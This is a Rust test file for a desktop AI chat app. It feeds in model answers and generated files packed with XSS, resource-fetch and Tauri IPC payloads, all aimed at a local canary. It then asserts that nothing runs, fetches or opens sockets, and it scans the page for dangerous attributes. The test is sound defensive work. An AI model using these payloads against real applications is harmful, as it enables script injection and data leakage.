//! Nothing that a model says can make the window fetch or run anything.

use std::time::Duration;

use serde_json::json;

use window_tests::journey::LONG;
use window_tests::{Canary, Result, inet_sockets, is_alive, wait_until};

use crate::scene::{AGENT, MODEL, Scene};

/// Every known way to make a page fetch or run something; `@` is replaced by the canary's address.
const ANSWER: &str = r##"
![picture](http://@/image.png)
![reference][r]
[link](http://@/link "title") and <http://@/auto> and http://@/bare
[script](javascript:document.title='RAN') [data](data:text/html,<script>document.title='RAN'</script>)

[r]: http://@/reference.png

<img src="http://@/raw.png" onerror="document.title='RAN'" srcset="http://@/set.png 2x">
<script>document.title='RAN'; fetch('http://@/fetch')</script>
<script src="http://@/script.js"></script>
<style>@import url(http://@/import.css); body { background: url(http://@/style.png) }</style>
<link rel="stylesheet" href="http://@/sheet.css"><link rel="prefetch" href="http://@/prefetch">
<link rel="dns-prefetch" href="http://@"><link rel="preconnect" href="http://@">
<iframe src="http://@/frame"></iframe><object data="http://@/object"></object><embed src="http://@/embed">
<video src="http://@/video" poster="http://@/poster" autoplay></video><audio src="http://@/audio" autoplay></audio>
<svg><image href="http://@/svg.png"/><use href="http://@/use.svg#x"/><animate onbegin="document.title='RAN'"/></svg>
<svg/onload="document.title='RAN'"><math><mi xlink:href="http://@/math">x</mi></math>
<form action="http://@/form"><input autofocus onfocus="document.title='RAN'"><button formaction="http://@/go">go</button></form>
<div style="background-image:url(http://@/inline.png)" onclick="document.title='RAN'">text</div>
<meta http-equiv="refresh" content="0;url=http://@/refresh"><base href="http://@/">
<body onload="document.title='RAN'"><details open ontoggle="document.title='RAN'">x</details>
<noscript><p title="</noscript><img src=x onerror=document.title='RAN'>"></noscript>

| table | ![in it](http://@/table.png) |
|---|---|
| <img src=http://@/cell.png> | `code` |

```html
<img src="http://@/code.png" onerror="document.title='RAN'">
```

$$\href{javascript:document.title='RAN'}{x} \includegraphics{http://@/maths.png}$$

The end of it.
"##;

const PAGE: &str = r##"<!doctype html><html><head><title>page</title>
<meta http-equiv="refresh" content="0;url=http://@/page-refresh"><link rel="stylesheet" href="http://@/page.css">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: sealed: tauri: ipc:">
<link rel="dns-prefetch" href="http://@"><link rel="preconnect" href="http://@"><link rel="prefetch" href="http://@/p1">
<link rel="preload" as="image" href="http://@/p2"><link rel="modulepreload" href="http://@/p3"><link rel="icon" href="http://@/icon">
<base href="http://@/base/"><script src="tauri://localhost/assets/index.js"></script>
<style>@import url(http://@/import1.css); @import 'http://@/import2.css'; @font-face { font-family: f; src: url(http://@/font) }
@namespace x url(http://@/namespace); body { background: #12ab34 url(http://@/style1.png); font-family: f; cursor: url(http://@/cursor), auto }
p { list-style: url(http://@/list); border-image: url(http://@/border) 1; mask: url(http://@/mask#m); filter: url(http://@/filter#f) }
p::before { content: url(http://@/content) } @media print { p { background: image-set('http://@/set' 1x) } }</style>
<script>parent.document.title='RAN'; top.location='http://@/top'; fetch('http://@/page-fetch')
try { window.__TAURI_INTERNALS__.invoke('forget_key') } catch (e) {}
try { window.webkit.messageHandlers.ipc.postMessage('{}') } catch (e) {}
fetch('ipc://localhost/forget_key', { method: 'POST', body: '{}' })</script></head>
<body background="http://@/body.png" onload="parent.document.title='RAN'"><img src="http://@/page.png"
onerror="top.document.title='RAN'"><iframe src="http://@/inner"></iframe><p>A page.</p>
<p style="background-image: url(http://@/inline.png); position: fixed; inset: 0" onclick="top.document.title='RAN'">Text.</p>
<iframe src="tauri://localhost/index.html"></iframe><iframe src="ipc://localhost/overview"></iframe><iframe src="sealed://localhost/x"></iframe>
<iframe srcdoc="<script>top.document.title='RAN'</script><img src=http://@/srcdoc.png>"></iframe>
<iframe srcdoc="&lt;link rel=preconnect href=http://@&gt;"></iframe><template shadowrootmode="open"><link rel="preconnect" href="http://@"></template>
<object data="http://@/object"></object><embed src="http://@/embed"><video src="http://@/video" poster="http://@/poster" autoplay></video>
<audio src="http://@/audio" autoplay></audio><svg><image href="http://@/svg.png"/><use href="http://@/use.svg#x"/></svg>
<form action="http://@/form" target="_top"><input autofocus onfocus="top.document.title='RAN'"></form>
<a href="javascript:top.document.title='RAN'">script</a>
<a href="http://@/top" target="_top" style="position: fixed; inset: 0 50% 0 0"></a>
<a href="http://@/self" style="position: fixed; inset: 0 0 0 50%"></a>
<math><maction actiontype="statusline#http://@/status"><mi href="http://@/maths">x</mi></maction></math></body></html>"##;

/// The background of [`PAGE`].
const GREEN: [u8; 3] = [0x12, 0xab, 0x34];

const PICTURE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.document.title='RAN'">
<script>parent.document.title='RAN'</script><image href="http://@/picture.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://@/foreign"></iframe></foreignObject>
<circle cx="20" cy="20" r="9"/></svg>"##;

#[tokio::test]
async fn hostile_output_fetches_nothing_and_runs_nothing() -> Result {
    let canary = Canary::start()?;
    let armed = |text: &str| {
        let armed = text.replace('@', &canary.address);
        // The at-rules of style sheets keep their sign.
        ["import", "font-face", "namespace", "media"]
            .iter()
            .fold(armed, |text, rule| {
                text.replace(&format!("{}{rule}", canary.address), &format!("@{rule}"))
            })
    };
    let script = json!({"turns": [
        {"match": "page", "say": [
            {"file": "page.html", "content": armed(PAGE)},
            {"file": "picture.svg", "content": armed(PICTURE)},
            {"file": "notes.md", "content": armed(ANSWER)},
            armed(ANSWER)
        ]},
        {"say": [{"thought": armed(ANSWER)}, armed(ANSWER)]}
    ]});
    let (scene, window) = Scene::connected(&script).await?;
    let watch = watch_network(window.pid(), window.processes("WebKitNetworkProcess"));

    window.choose_who(MODEL).await?;
    window.ask("Say something.").await?;
    let answer = window.answer(1, LONG).await?;
    assert!(answer.contains("The end of it."));
    window.click("thought").await?;
    harmless(&window).await?;

    window.click("nav-new").await?;
    window.choose_who(AGENT).await?;
    window.ask("Make a page.").await?;
    window.answer(1, LONG).await?;
    for name in ["page.html", "picture.svg", "notes.md", "report.md"] {
        window
            .click_css(&format!("[data-testid=file-item][data-name=\"{name}\"]"))
            .await?;
        window.find("file-preview").await?;
        tokio::time::sleep(Duration::from_millis(700)).await;
        harmless(&window).await?;
        if name == "page.html" {
            // The page's own styles apply, and clicking its links does nothing.
            let before = wait_until(
                "the page's own colour",
                Duration::from_secs(60),
                async || {
                    let seen = scene.desktop.area_of(GREEN)?;
                    Ok(if seen.pixels > 10_000 {
                        Ok(seen)
                    } else {
                        Err(format!("{seen:?}"))
                    })
                },
            )
            .await?;
            let (left, right) = before.x;
            let middle = before.y.0.midpoint(before.y.1);
            for x in [left + (right - left) / 4, left + (right - left) / 4 * 3] {
                scene.desktop.click_at(x, middle)?;
                tokio::time::sleep(Duration::from_millis(500)).await;
                harmless(&window).await?;
            }
            // The pointer and the scroll bar now cover a little of it.
            let after = scene.desktop.area_of(GREEN)?;
            assert_eq!((after.x, after.y), (before.x, before.y));
            assert!(
                after.pixels > before.pixels / 100 * 98,
                "{before:?} became {after:?}"
            );
        }
    }

    assert_eq!(canary.calls(), 0, "the window called the canary");
    let most = watch.await.expect("the watch ends with the window");
    assert_eq!(
        most, 0,
        "the web page's network process held {most} sockets"
    );
    drop(scene);
    Ok(())
}

/// Checks that no script ran, and no answer contains anything that could fetch or run.
async fn harmless(window: &window_tests::ErrandWindow) -> Result {
    let title = window.client().title().await?;
    assert_eq!(title, "Errand");
    let left = window
        .client()
        .execute(
            "const bad = [];\
             for (const e of document.querySelectorAll('[data-testid=turn] *, [data-testid=file-preview] *')) {\
               for (const a of e.attributes) {\
                 if (a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value)) bad.push(e.outerHTML);\
                 if (['src', 'srcset', 'poster', 'background', 'data'].includes(a.name)\
                     && /^\\s*(https?:)?\\/\\//i.test(a.value)) bad.push(e.outerHTML);\
               }\
               if (['SCRIPT', 'LINK', 'META', 'BASE', 'OBJECT', 'EMBED', 'FORM'].includes(e.tagName)) bad.push(e.outerHTML);\
               if (e.tagName === 'IFRAME' && (e.getAttribute('sandbox') !== '' || e.hasAttribute('srcdoc')\
                   || !/^sealed:\\/\\/localhost\\/[0-9a-f-]{36}$/.test(e.getAttribute('src')))) bad.push(e.outerHTML);\
             }\
             return bad",
            Vec::new(),
        )
        .await?;
    assert_eq!(left, json!([]));
    Ok(())
}

/// Polls the page's network process every few milliseconds, for twenty seconds or until the window is closed; returns
/// the maximum number of sockets seen.
fn watch_network(window: u32, network: Vec<u32>) -> tokio::task::JoinHandle<usize> {
    assert!(
        !network.is_empty(),
        "the page has no network process to watch"
    );
    tokio::task::spawn_blocking(move || {
        let end = std::time::Instant::now() + Duration::from_secs(20);
        let mut most = 0;
        while is_alive(window) && std::time::Instant::now() < end {
            most = network
                .iter()
                .map(|pid| inet_sockets(*pid))
                .fold(most, usize::max);
            std::thread::sleep(Duration::from_millis(5));
        }
        most
    })
}
